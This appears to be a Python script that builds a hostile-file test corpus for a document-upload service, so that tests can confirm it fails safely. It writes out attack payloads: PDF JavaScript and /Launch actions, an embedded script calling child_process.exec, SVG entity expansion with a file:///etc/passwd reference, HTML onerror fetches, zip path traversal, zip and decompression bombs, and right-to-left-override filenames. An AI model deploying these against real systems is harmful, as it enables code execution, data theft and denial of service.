"""Write the hostile-input corpus: files that are empty, truncated, lying, booby-trapped or absurdly large.

Why: anyone on the internet can upload to the service, and HR inboxes receive whatever a scanner or a mail gateway
produces. Every one of these inputs must end in a result or in a clear error for that document, never in a crash,
a hang, a memory blow-up or a lost document (``tests/test_hostile.py`` checks each through the CLI and the API).

Small files are committed in ``fixtures/hostile/``; large or awkward ones (a zip bomb, files whose *names* are the
attack: NFD, right-to-left override, emoji, 255 bytes) are written on demand with ``--large DIR``, which the test
calls into a temporary folder. PDFs are written by hand (objects, then an xref table of their byte offsets): the
point of most of them is a structure no PDF library would produce. Only the encrypted ones come from reportlab,
which knows the RC4 key schedule. Everything is deterministic: running the script twice gives the same bytes.

Run from the repository root: ``.venv/bin/python scripts/make_hostile.py [--out DIR] [--large DIR]``.
"""

from __future__ import annotations

import argparse
import io
import os
import shutil
import struct
import sys
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pillow_heif
from PIL import Image, ImageDraw, ImageFont
from reportlab.lib.pagesizes import A4
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen import canvas

pillow_heif.register_heif_opener()

ROOT = Path(__file__).resolve().parents[1]
OUT = ROOT / "fixtures" / "hostile"
NIR_TEXT = "2 84 05 88 321 025 32"
SENTENCE = f"Votre numéro de sécurité sociale définitif : {NIR_TEXT}"
NIR = NIR_TEXT.replace(" ", "")

Maker = Callable[[], bytes]


# --- PDF by hand --------------------------------------------------------------------------------------------------


def stream(data: bytes, entries: str = "") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), entries.encode()) + data + b"\nendstream"


def pdf(objects: list[bytes], trailer: str = "/Root 1 0 R", prev_loop: bool = False) -> bytes:
    """A PDF of ``objects`` (numbered from 1), with a correct xref table; ``prev_loop``: its /Prev is itself."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    prev = f" /Prev {xref}" if prev_loop else ""
    out += f"trailer\n<< /Size {len(objects) + 1} {trailer}{prev} >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def text_content(sentence: str = SENTENCE) -> bytes:
    escaped = sentence.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("cp1252")
    return b"BT /F1 11 Tf 72 760 Td (" + escaped + b") Tj ET"


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def letter_pdf(catalog: str = "", page: str = "", extra: list[bytes] | None = None, content: bytes = b"") -> bytes:
    """A one-page letter with a text layer giving a valid number; objects 6... are ``extra``."""
    return pdf(
        [
            f"<< /Type /Catalog /Pages 2 0 R {catalog}>>".encode(),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            (
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
                f"/Contents 5 0 R {page}>>"
            ).encode(),
            FONT,
            stream(content or text_content()),
            *(extra or []),
        ]
    )


def javascript_pdf() -> bytes:
    """JavaScript run on opening, on page open, and by name; a /Launch action: PDFium must run none of them."""
    js = b"app.alert('hostile'); this.submitForm('http://127.0.0.1:9/stolen'); app.launchURL('http://127.0.0.1:9/');"
    return letter_pdf(
        catalog="/OpenAction 6 0 R /Names << /JavaScript << /Names [(hostile) 6 0 R] >> >> ",
        page="/AA << /O 7 0 R >> ",
        extra=[
            b"<< /Type /Action /S /JavaScript /JS (" + js + b") /Next 7 0 R >>",
            b"<< /Type /Action /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc.exe) >> >>",
        ],
    )


def embedded_files_pdf() -> bytes:
    """An executable and a script attached (/EmbeddedFiles), one of them also as a page annotation."""
    exe = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode."
    return letter_pdf(
        catalog="/Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R (run.js) 8 0 R] >> >> ",
        page="/Annots [10 0 R] ",
        extra=[
            b"<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 7 0 R >> >>",
            stream(exe, "/Type /EmbeddedFile /Subtype /application#2Fx-msdownload "),
            b"<< /Type /Filespec /F (run.js) /UF (run.js) /EF << /F 9 0 R >> >>",
            stream(b"require('child_process').exec('touch /tmp/pwned')", "/Type /EmbeddedFile "),
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 30 30] /FS 6 0 R /Name /Paperclip >>",
        ],
    )


def many_pages_pdf(count: int = 500) -> bytes:
    """``count`` pages sharing one content stream: 500 pages in about 40 KB."""
    kids = " ".join(f"{4 + i} 0 R" for i in range(count))
    pages = [
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> "
        b"/Contents %d 0 R >>" % (4 + count)
    ] * count
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            f"<< /Type /Pages /Kids [{kids}] /Count {count} >>".encode(),
            FONT,
            *pages,
            stream(text_content()),
        ]
    )


def huge_page_pdf(pages: int = 1, side: float = 14_400) -> bytes:
    """Pages of ``side`` points (14,400 pt = 200 inches, the most the PDF spec allows), each one image, no text."""
    kids = " ".join(f"{5 + i} 0 R" for i in range(pages))
    page = (
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 {side:g} {side:g}] /Resources << /XObject << /Im1 3 0 R >> >> "
        "/Contents 4 0 R >>"
    ).encode()
    image = stream(
        b"\x80", "/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 "
    )
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode(),
            image,
            stream(f"q {side:g} 0 0 {side:g} 0 0 cm /Im1 Do Q".encode()),
            *[page] * pages,
        ]
    )


def image_claiming_pdf(width: int = 40_000, height: int = 40_000) -> bytes:
    """An A4 page drawing one image that claims ``width`` x ``height`` pixels (1.6 gigapixels) from 1 KB of data."""
    data = zlib.compress(b"\x00" * 1024)
    image = stream(
        data,
        f"/Type /XObject /Subtype /Image /Width {width} /Height {height} /ColorSpace /DeviceGray "
        "/BitsPerComponent 8 /Filter /FlateDecode ",
    )
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im1 4 0 R >> >> "
            b"/Contents 5 0 R >>",
            image,
            stream(b"q 595 0 0 842 0 0 cm /Im1 Do Q"),
        ]
    )


def parent_loop_pdf() -> bytes:
    """The page tree's root names itself as its /Parent, and the page's /Parent is a node that is its own child."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [6 0 R] /Count 1 /Parent 2 0 R >>",
            b"<< /Type /Page /Parent 6 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
            b"/Contents 5 0 R >>",
            FONT,
            stream(text_content()),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 6 0 R >>",
        ]
    )


def kids_cycle_pdf() -> bytes:
    """/Kids that contain the node itself and its parent: a walk of the page tree never ends unless it checks."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R 2 0 R 6 0 R] /Count 3 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
            b"/Contents 5 0 R >>",
            FONT,
            stream(text_content()),
            b"<< /Type /Pages /Kids [6 0 R 2 0 R] /Count 2 /Parent 2 0 R >>",
        ]
    )


def self_reference_pdf() -> bytes:
    """Objects that are references to themselves (/Contents, /Resources, /MediaBox) and a self-inheriting page."""
    return letter_pdf(
        page="/Rotate 6 0 R /CropBox 7 0 R /Annots 8 0 R ",
        extra=[b"6 0 R", b"7 0 R", b"[8 0 R]"],
    )


def xref_prev_loop_pdf() -> bytes:
    """The trailer's /Prev points back at its own xref table (older readers loop forever)."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
            b"/Contents 5 0 R >>",
            FONT,
            stream(text_content()),
        ],
        prev_loop=True,
    )


def nested_pdf(opening: bytes, closing: bytes, depth: int = 100_000) -> bytes:
    """A letter whose page dictionary holds a value nested ``depth`` deep (a recursive parser's stack)."""
    return letter_pdf(page="/Hostile " + (opening * depth + closing * depth).decode() + " ")


def nested_content_pdf(depth: int = 100_000) -> bytes:
    """A content stream that saves the graphics state ``depth`` times before writing the text."""
    return letter_pdf(content=b"q " * depth + text_content() + b" Q" * depth)


def no_pages_pdf() -> bytes:
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def huge_count_pdf() -> bytes:
    """A page tree claiming two billion pages (only one is there)."""
    return letter_pdf().replace(b"/Kids [3 0 R] /Count 1 ", b"/Kids [3 0 R] /Count 2147483647 ")


def encrypted_pdf(user: str, owner: str) -> bytes:
    buffer = io.BytesIO()
    pdf_canvas = canvas.Canvas(
        buffer, pagesize=A4, invariant=1, encrypt=StandardEncryption(user, owner, canPrint=0, canCopy=0)
    )
    pdf_canvas.drawString(72, 760, SENTENCE)
    pdf_canvas.showPage()
    pdf_canvas.save()
    return buffer.getvalue()


# --- images -------------------------------------------------------------------------------------------------------


def letter_image(sentence: str = "Attestation de droits à l'assurance maladie") -> Image.Image:
    """A small gray picture of one line of a letter (OCR reads it in a fraction of a second)."""
    image = Image.new("L", (1400, 120), 255)
    draw = ImageDraw.Draw(image)
    draw.text((20, 35), sentence, fill=0, font=ImageFont.load_default(size=40))
    return image


def encoded(image: Image.Image, fmt: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **options)
    return buffer.getvalue()


def gradient(width: int = 400, height: int = 300) -> Image.Image:
    """A colour picture with detail everywhere, so that a truncated encoding misses real data."""
    return Image.merge(
        "RGB",
        [
            Image.linear_gradient("L").resize((width, height)),
            Image.radial_gradient("L").resize((width, height)),
            Image.linear_gradient("L").rotate(90).resize((width, height)),
        ],
    )


def half(data: bytes) -> bytes:
    return data[: len(data) // 2]


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width: int = 30_000, height: int = 30_000) -> bytes:
    """A 100-byte PNG whose header claims ``width`` x ``height`` pixels: a decompression bomb's first bytes."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + png_chunk(b"IEND", b"")
    )


def png_text_bomb() -> bytes:
    """A valid small PNG carrying a compressed comment that inflates to 20 MB (Pillow stops at 1 MB)."""
    good = encoded(letter_image(), "PNG")
    bomb = png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"A" * 20_000_000, 9))
    return good[:33] + bomb + good[33:]  # after the 8-byte signature and the 25-byte IHDR chunk


def png_with_pdf_marker() -> bytes:
    """A real PNG whose first kilobyte also holds ``%PDF-`` (in a text chunk): it is a PNG, by its first bytes."""
    good = encoded(letter_image(), "PNG")
    return good[:33] + png_chunk(b"tEXt", b"Comment\x00exported from %PDF-1.7 by a scanner") + good[33:]


def jpeg_claiming(width: int = 65_500, height: int = 65_500) -> bytes:
    """A tiny JPEG whose frame header (SOF0) claims ``width`` x ``height``."""
    data = bytearray(encoded(Image.new("L", (16, 16), 255), "JPEG"))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def tiff(frames: list[tuple[int, int]], fill: int = 255, claimed: tuple[int, int] | None = None) -> bytes:
    """A little-endian gray TIFF, one IFD per (width, height); frames of one size share one deflated strip.

    Sharing the strip is what lets 1,000 frames, or 40 frames of 20 megapixels, fit in a small file. Frames of
    the ``claimed`` size only claim it: their strip holds one row.
    """
    out = bytearray(b"II*\x00\x00\x00\x00\x00")
    strips: dict[tuple[int, int], tuple[int, int]] = {}
    for size in dict.fromkeys(frames):
        width, height = size
        squeeze = zlib.compressobj(9)
        row = bytes([fill]) * width
        data = b"".join(squeeze.compress(row) for _ in range(1 if size == claimed else height)) + squeeze.flush()
        strips[size] = (len(out), len(data))
        out += data
        if len(out) % 2:
            out += b"\x00"
    struct.pack_into("<I", out, 4, len(out))
    for index, (width, height) in enumerate(frames):
        offset, count = strips[(width, height)]
        entries = [
            (256, 4, width),  # ImageWidth, LONG
            (257, 4, height),  # ImageLength
            (258, 3, 8),  # BitsPerSample, SHORT
            (259, 3, 8),  # Compression: Deflate
            (262, 3, 1),  # PhotometricInterpretation: BlackIsZero
            (273, 4, offset),  # StripOffsets
            (277, 3, 1),  # SamplesPerPixel
            (278, 4, height),  # RowsPerStrip
            (279, 4, count),  # StripByteCounts
        ]
        ifd = struct.pack("<H", len(entries))
        for tag, kind, value in entries:
            ifd += struct.pack("<HHI", tag, kind, 1) + (
                struct.pack("<HH", value, 0) if kind == 3 else struct.pack("<I", value)
            )
        last = index == len(frames) - 1
        ifd += struct.pack("<I", 0 if last else len(out) + len(ifd) + 4)
        out += ifd
    return bytes(out)


def tiff_ifd_loop() -> bytes:
    """A one-frame TIFF whose 'next frame' pointer points back at its own frame."""
    data = bytearray(tiff([(64, 64)]))
    first_ifd = struct.unpack_from("<I", data, 4)[0]
    struct.pack_into("<I", data, len(data) - 4, first_ifd)
    return bytes(data)


def animated_gif() -> bytes:
    frames = [Image.new("P", (64, 64), colour) for colour in (0, 80, 160, 240)]
    return encoded(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)


def animated_webp(count: int = 60) -> bytes:
    frames = [Image.new("L", (32, 32), (index * 37) % 256) for index in range(count)]
    return encoded(frames[0], "WEBP", save_all=True, append_images=frames[1:], duration=50, lossless=True)


def heic_images(count: int = 60) -> bytes:
    frames = [Image.new("RGB", (64, 64), ((index * 37) % 256, 90, 200)) for index in range(count)]
    return encoded(frames[0], "HEIF", save_all=True, append_images=frames[1:], quality=30)


SVG = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100">
<image xlink:href="file:///etc/passwd"/><script>fetch('http://127.0.0.1:9/')</script><text>&lol2;</text></svg>
"""
HTML = b"""<!DOCTYPE html><html><body><img src=x onerror="fetch('http://127.0.0.1:9/')">
<script>document.location='http://127.0.0.1:9/'</script>Votre num\xc3\xa9ro : 2 84 05 88 321 025 32</body></html>
"""


# --- zips (for the batch endpoint) --------------------------------------------------------------------------------


def zipped(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = method
            archive.writestr(info, data)
    return buffer.getvalue()


def zip_traversal() -> bytes:
    """Members whose names climb out of any folder they would be unpacked into, or are absolute."""
    letter = letter_pdf()
    return zipped(
        [
            ("../../../../etc/cron.d/letter.pdf", letter),
            ("/etc/passwd.pdf", letter),
            ("..\\..\\Windows\\System32\\lettre.pdf", letter),
            ("ok/../../../../tmp/evil.pdf", letter),
            ("./.hidden.pdf", letter),  # hidden: skipped
            ("__MACOSX/._letter.pdf", b"\x00\x05\x16\x07"),  # macOS resource fork: skipped
        ]
    )


def zip_nested() -> bytes:
    """A zip inside the zip: the inner one is a document of its own, not unpacked (no recursion)."""
    return zipped([("lettre.pdf", letter_pdf()), ("inner.zip", zipped([("deeper.pdf", letter_pdf())]))])


def zip_encrypted_member() -> bytes:
    """A member flagged as encrypted (ZipCrypto), next to a readable one."""
    data = bytearray(zipped([("secret.pdf", letter_pdf()), ("lettre.pdf", letter_pdf())], zipfile.ZIP_STORED))
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.index(signature)  # the first local header and the first central directory entry: secret.pdf
        data[start + flag_at] |= 0x01
    return bytes(data)


def zip_truncated() -> bytes:
    return half(zipped([("lettre.pdf", letter_pdf()), ("autre.pdf", letter_pdf())], zipfile.ZIP_STORED))


def zip_bomb(size: int = 300 * 1024 * 1024) -> bytes:
    """One member of ``size`` zero bytes, deflated to about 0.1 % of that."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("letter.pdf", date_time=(2026, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as member:
            block = b"\0" * (1024 * 1024)
            for _ in range(size // len(block)):
                member.write(block)
    return buffer.getvalue()


def zip_many(count: int = 1_000) -> bytes:
    """More members than a batch takes (500 by default)."""
    return zipped([(f"letter-{index:04d}.pdf", b"%PDF-1.4\n") for index in range(count)], zipfile.ZIP_STORED)


# --- the corpus ---------------------------------------------------------------------------------------------------

SMALL: dict[str, Maker] = {
    # empty and truncated
    "empty.pdf": lambda: b"",
    "truncated.jpg": lambda: half(encoded(gradient(), "JPEG", quality=90)),
    "truncated.png": lambda: half(encoded(gradient(), "PNG")),
    "truncated-in-header.png": lambda: encoded(gradient(), "PNG")[:20],
    "truncated.pdf": lambda: letter_pdf()[:420],
    "truncated.heic": lambda: half(encoded(gradient(), "HEIF", quality=60)),
    "truncated-in-index.heic": lambda: encoded(gradient(), "HEIF", quality=60)[:200],
    "truncated.tif": lambda: half(encoded(gradient(200, 150), "TIFF", compression="tiff_deflate")),  # directory last
    "pdf-header-only.pdf": lambda: b"%PDF-1.7\n",
    # names that lie about the content
    "png-named.pdf": lambda: encoded(letter_image(), "PNG"),
    "png-one-line-letter.png": lambda: encoded(letter_image(SENTENCE), "PNG"),  # only the line with the number
    "pdf-named.jpg": letter_pdf,
    "png-with-pdf-marker.png": png_with_pdf_marker,
    "svg-named.jpg": lambda: SVG,
    "html-named.png": lambda: HTML,
    "bmp-named.png": lambda: encoded(Image.new("L", (64, 64), 255), "BMP"),
    "animated.gif": animated_gif,
    "photo.avif": lambda: encoded(gradient(), "AVIF", quality=50),
    # PDF features that must neither stop the reading nor run
    "pdf-user-password.pdf": lambda: encrypted_pdf("secret", "owner"),
    "pdf-owner-password-only.pdf": lambda: encrypted_pdf("", "owner"),
    "pdf-javascript.pdf": javascript_pdf,
    "pdf-embedded-files.pdf": embedded_files_pdf,
    # PDF structures that loop or recurse
    "pdf-parent-loop.pdf": parent_loop_pdf,
    "pdf-kids-cycle.pdf": kids_cycle_pdf,
    "pdf-self-reference.pdf": self_reference_pdf,
    "pdf-xref-prev-loop.pdf": xref_prev_loop_pdf,
    "pdf-no-pages.pdf": no_pages_pdf,
    # too much: pages, pixels, frames
    "pdf-500-pages.pdf": many_pages_pdf,
    "pdf-count-2-billion.pdf": huge_count_pdf,
    "pdf-page-200-inches.pdf": huge_page_pdf,
    "pdf-20-pages-200-inches.pdf": lambda: huge_page_pdf(pages=20),
    "pdf-image-claims-1.6-gigapixels.pdf": image_claiming_pdf,
    "png-claims-30000x30000.png": png_claiming,
    "jpeg-claims-65500x65500.jpg": jpeg_claiming,
    "png-text-bomb.png": png_text_bomb,
    "tiff-1000-frames.tif": lambda: tiff([(1000, 1000)] * 1000),
    "tiff-40-frames-of-20-megapixels.tif": lambda: tiff([(4000, 5000)] * 40),
    "tiff-second-frame-30000x30000.tif": lambda: tiff([(64, 64), (30_000, 30_000)], claimed=(30_000, 30_000)),
    "tiff-ifd-loop.tif": tiff_ifd_loop,
    "webp-60-frames.webp": animated_webp,
    "heic-60-images.heic": heic_images,
    # zips for the batch endpoint
    "zip-traversal.zip": zip_traversal,
    "zip-nested.zip": zip_nested,
    "zip-encrypted-member.zip": zip_encrypted_member,
    "zip-truncated.zip": zip_truncated,
}

LARGE: dict[str, Maker] = {
    "pdf-nested-arrays-100000.pdf": lambda: nested_pdf(b"[", b"]"),
    "pdf-nested-dictionaries-100000.pdf": lambda: nested_pdf(b"<< /A ", b">> "),
    "pdf-nested-q-100000.pdf": nested_content_pdf,
    "zip-bomb.zip": zip_bomb,
    "zip-1000-members.zip": zip_many,
}

NAMES: dict[str, str] = {
    "nfc": unicodedata.normalize("NFC", "relevé-sécurité-sociale.pdf"),
    "nfd": unicodedata.normalize("NFD", "relevé-sécurité-sociale.pdf"),
    "rtl-override": "lettre-\u202efdp.exe",  # shows as "lettre-exe.pdf"
    "emoji": "📄 courrier ✉️ 🇫🇷 👩🏽‍💼.pdf",
    "newline": "lettre\nfausse ligne.pdf",
    "long-255-bytes": "lettre-" + "é" * 122 + ".pdf",  # 7 + 244 + 4 = 255 bytes in UTF-8, the most ext4 allows
    "latin-1-bytes": os.fsdecode(b"relev\xe9-s\xe9cu.pdf"),  # from an old Windows share: not UTF-8
}
"""Files whose name is the attack: each holds the good one-page letter (``letter_pdf``)."""


def write_small(out: Path = OUT) -> list[Path]:
    out.mkdir(parents=True, exist_ok=True)
    written = []
    for name, make in SMALL.items():
        path = out / name
        path.write_bytes(make())
        written.append(path)
    return written


def write_large(out: Path) -> dict[str, Path]:
    """The large files and the odd names, in ``out``: name (or the key of :data:`NAMES`) → path."""
    out.mkdir(parents=True, exist_ok=True)
    written = {}
    for name, make in LARGE.items():
        path = out / name
        path.write_bytes(make())
        written[name] = path
    letter = letter_pdf()
    for key, name in NAMES.items():
        path = out / "names" / key / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(letter)
        written[key] = path
    return written


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=OUT, help="where the small files go (default fixtures/hostile)")
    parser.add_argument("--large", type=Path, metavar="DIR", help="write the large files and odd names there instead")
    args = parser.parse_args(argv)
    if args.large:
        paths = list(write_large(args.large).values())
    else:
        if args.out.exists():
            shutil.rmtree(args.out)
        paths = write_small(args.out)
    total = sum(path.stat().st_size for path in paths)
    print(f"{len(paths)} files, {total / 1024:.0f} KB")
    return 0


if __name__ == "__main__":
    sys.exit(main())
